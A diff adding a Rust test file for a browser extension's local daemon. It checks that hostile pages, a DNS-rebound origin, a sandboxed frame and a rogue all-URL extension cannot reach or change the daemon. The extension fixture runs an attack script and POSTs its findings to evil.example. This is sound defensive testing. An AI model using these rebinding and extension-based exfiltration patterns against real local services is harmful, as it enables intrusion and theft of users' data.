@@ -1,0 +1,183 @@
+//! Pages and another extension that mean harm, in the same browser as ours: none of them causes an effect or reads an answer.
+
+use crate::support::{Stage, until};
+use serde_json::json;
+
+/// What they all try.
+const ATTACK: &str = include_str!("hostile.js");
+
+/// An empty page, which forbids itself nothing.
+const PAGE: &str = "<!doctype html><title>page</title><body></body>";
+
+/// A stage whose extension is at rest.
+async fn stage(settings: &str) -> Stage {
+    let stage = Stage::set(settings).await;
+    stage.act("plugin_status", None).await;
+    stage
+}
+
+fn daemon(stage: &Stage) -> String {
+    format!("http://{}", stage.daemon.address)
+}
+
+/// What became of each attempt of a page.
+async fn attacked_by(stage: &Stage, tab: &str) -> Vec<(String, String)> {
+    let call = format!(
+        "{ATTACK}; attack({}, {}, '').then(JSON.stringify)",
+        json!(daemon(stage)),
+        json!(stage.daemon.ws_url())
+    );
+    let told = stage.firefox.bidi.evaluate(tab, &call).await;
+    serde_json::from_str(told.as_str().unwrap()).unwrap()
+}
+
+/// Whether an attempt came to nothing: no socket, and no answer but a refusal or what is open to everybody.
+fn is_vain(became: &str) -> bool {
+    let says = |text: &str| became.contains(text);
+    if says("origin_not_allowed") || says("host_not_allowed") {
+        return true; // a frame shows the refusal without its status
+    }
+    let read = became.strip_prefix("read ");
+    read.map_or(became != "opened", |read| {
+        read.starts_with("401 ") || read.starts_with("403 ") || read.contains("\"status\":\"ok\"")
+    })
+}
+
+/// Nothing was read but refusals, no socket opened, nothing happened.
+async fn in_vain(stage: &Stage, who: &str, attempts: &[(String, String)]) {
+    assert!(attempts.len() > 40, "{who}: only {} attempts", attempts.len());
+    for (attempt, became) in attempts {
+        assert!(is_vain(became), "{who}: {attempt}: {became}");
+    }
+    let caller = stage.caller();
+    assert_eq!(caller.get("/v1/system/state").await.data()["mode"], "running", "{who}");
+    let asked = caller.get("/v1/browser/requests").await.data();
+    assert_eq!(asked["requests"], json!([]), "{who}");
+    let clients = caller.browser().await["bridge"]["clients"].take();
+    assert_eq!(clients.as_array().unwrap().len(), 1, "{who}: {clients}");
+    assert_eq!(stage.apps.received("claude.ai/api/stolen").len(), 0, "{who}");
+    assert_eq!(stage.firefox.tabs_of("https://claude.ai").await.len(), 0, "{who} opened a tab");
+}
+
+async fn page_at(stage: &Stage, url: &str) -> String {
+    let tab = stage.firefox.bidi.new_tab().await;
+    stage.firefox.bidi.navigate(&tab, url).await;
+    tab
+}
+
+#[actix_rt::test]
+async fn a_page_of_another_site_attacks_in_vain() {
+    let stage = stage("").await;
+    let port = stage.apps.plain_port;
+    for host in ["evil.example", "127.0.0.1", "localhost"] {
+        let place = format!("{host}:{port}/page");
+        stage.apps.answer(&place, 200, "text/html", PAGE);
+        let tab = page_at(&stage, &format!("http://{place}")).await;
+        in_vain(&stage, host, &attacked_by(&stage, &tab).await).await;
+        stage.firefox.bidi.close(&tab).await;
+    }
+}
+
+#[actix_rt::test]
+async fn a_page_of_a_rebound_name_attacks_in_vain() {
+    let stage = stage("").await;
+    let port = stage.daemon.address.port();
+    // The name leads to the daemon by now, so to the browser these are of one origin.
+    let origin = format!("http://rebound.example:{port}");
+    let tab = page_at(&stage, &format!("{origin}/health")).await;
+    let seen = stage.firefox.bidi.evaluate(&tab, "location.origin + ' ' + document.body.textContent").await;
+    assert!(seen.as_str().unwrap().starts_with(&origin) && seen.to_string().contains("host_not_allowed"), "{seen}");
+    let socket = format!("ws://rebound.example:{port}/ws/firefox");
+    let call = format!("{ATTACK}; attack({}, {}, '').then(JSON.stringify)", json!(origin), json!(socket));
+    let told = stage.firefox.bidi.evaluate(&tab, &call).await;
+    let attempts: Vec<(String, String)> = serde_json::from_str(told.as_str().unwrap()).unwrap();
+    assert!(
+        attempts.iter().any(|(_, became)| became.contains("host_not_allowed")),
+        "it may read refusals: {attempts:?}"
+    );
+    in_vain(&stage, "a rebound name", &attempts).await;
+}
+
+#[actix_rt::test]
+async fn a_sandboxed_frame_attacks_in_vain() {
+    let stage = stage("").await;
+    let place = format!("evil.example:{}/frame", stage.apps.plain_port);
+    let script = format!(
+        "{ATTACK}; attack({}, {}, '').then(found => parent.postMessage(JSON.stringify(found), '*'))",
+        json!(daemon(&stage)),
+        json!(stage.daemon.ws_url())
+    );
+    let inner = format!("<body><script>{script}</script></body>").replace('&', "&amp;").replace('"', "&quot;");
+    let outer = format!(
+        "{PAGE}<script>addEventListener('message', told => window.told = told.data)</script>\
+         <iframe sandbox=\"allow-scripts allow-forms\" srcdoc=\"{inner}\"></iframe>"
+    );
+    stage.apps.answer(&place, 200, "text/html", &outer);
+    let tab = page_at(&stage, &format!("http://{place}")).await;
+    let told = until("the frame's report", async || {
+        let told = stage.firefox.bidi.evaluate(&tab, "window.told ?? null").await;
+        told.as_str().map(str::to_owned)
+    })
+    .await;
+    let attempts: Vec<(String, String)> = serde_json::from_str(&told).unwrap();
+    in_vain(&stage, "a frame without origin", &attempts).await;
+}
+
+/// What became of each attempt of another extension that may read and change pages of all addresses.
+async fn attacked_by_extension(stage: &Stage, referrer: &str) -> Vec<(String, String)> {
+    let report = format!("evil.example:{}/report", stage.apps.plain_port);
+    let manifest = json!({
+        "manifest_version": 2,
+        "name": "hostile",
+        "version": "1.0",
+        "browser_specific_settings": {"gecko": {"id": "hostile@localhost"}},
+        "permissions": ["<all_urls>", "tabs"],
+        "background": {"scripts": ["background.js"]},
+        "content_security_policy": "default-src * 'unsafe-inline'; script-src 'self'; connect-src *"
+    });
+    let script = format!(
+        "{ATTACK}; attack({}, {}, {}).then(found => fetch({}, {{method: 'POST', body: JSON.stringify(found)}}))",
+        json!(daemon(stage)),
+        json!(stage.daemon.ws_url()),
+        json!(referrer),
+        json!(format!("http://{report}"))
+    );
+    let files = [("manifest.json", manifest.to_string()), ("background.js", script)];
+    assert_eq!(stage.firefox.install_other(&files).await, "hostile@localhost");
+    let told = until("the extension's report", async || stage.apps.received(&report).pop()).await;
+    serde_json::from_str(&told.body).unwrap()
+}
+
+/// No attempt had an effect. The peers' socket is left out: without pairing, as here, any extension is a client there.
+async fn without_effect(stage: &Stage) {
+    let caller = stage.caller();
+    assert_eq!(caller.get("/v1/system/state").await.data()["mode"], "running");
+    assert_eq!(caller.get("/v1/browser/requests").await.data()["requests"], json!([]));
+    assert_eq!(stage.apps.received("claude.ai/api/stolen").len(), 0);
+    assert_eq!(stage.firefox.tabs_of("https://claude.ai").await.len(), 0);
+}
+
+/// The browser vouches for such an extension as if its `GET`s came from this very origin, so it reads what local trust
+/// gives to every program of this user; `docs/security.md` says so.
+#[actix_rt::test]
+async fn another_extension_with_all_addresses_has_no_effect() {
+    let stage = stage("").await;
+    let attempts = attacked_by_extension(&stage, "").await;
+    let changes = attempts.iter().filter(|(attempt, _)| attempt.contains("POST") || attempt.contains("DELETE"));
+    for (attempt, became) in changes {
+        assert!(is_vain(became), "{attempt}: {became}");
+    }
+    without_effect(&stage).await;
+}
+
+#[actix_rt::test]
+async fn where_everybody_shows_the_token_it_reads_nothing_either_whatever_page_it_poses_as() {
+    let stage = stage("auth.local_trust = 'none'").await;
+    let page = format!("{}/v1/status/ui", daemon(&stage));
+    let attempts = attacked_by_extension(&stage, &page).await;
+    assert!(attempts.iter().any(|(_, became)| became.starts_with("read 401")), "it reads refusals: {attempts:?}");
+    for (attempt, became) in attempts.iter().filter(|(attempt, _)| attempt != "WebSocket") {
+        assert!(is_vain(became), "{attempt}: {became}");
+    }
+    without_effect(&stage).await;
+}
